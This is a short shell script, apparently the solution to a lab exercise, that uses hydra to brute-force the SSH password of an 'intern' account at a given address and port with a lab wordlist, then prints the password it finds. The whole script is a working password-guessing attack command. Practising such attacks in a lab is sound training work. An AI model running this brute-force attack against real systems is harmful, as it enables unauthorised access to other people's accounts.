#!/bin/sh
# Exercise 2, docs/lab/ssh.md: find the intern's password. Arguments: the address and the port.
set -eu
lab --proof
lab hydra -I -l intern -P /opt/bramble-lab/words.txt -t 8 -f "ssh://$1:$2" | sed -n 's/.*login: intern *password: //p'
